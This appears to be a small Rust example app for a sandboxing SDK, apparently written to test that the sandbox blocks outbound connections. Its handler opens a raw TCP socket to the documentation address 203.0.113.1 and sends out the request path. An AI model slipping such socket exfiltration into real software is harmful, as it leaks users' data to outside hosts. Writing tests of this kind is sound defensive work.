//! Tries to carry data away by a socket of its own.

use domicile_sdk::prelude::*;

domicile_sdk::app! { manifest: "examples/hostile_sockets.toml", page: handle }

fn handle(request: Request) -> Response {
    let sent = std::net::TcpStream::connect("203.0.113.1:443")
        .and_then(|mut stream| std::io::Write::write_all(&mut stream, request.path.as_bytes()));
    Response::page("Hello", view! { p { (format!("{sent:?}")) } })
}
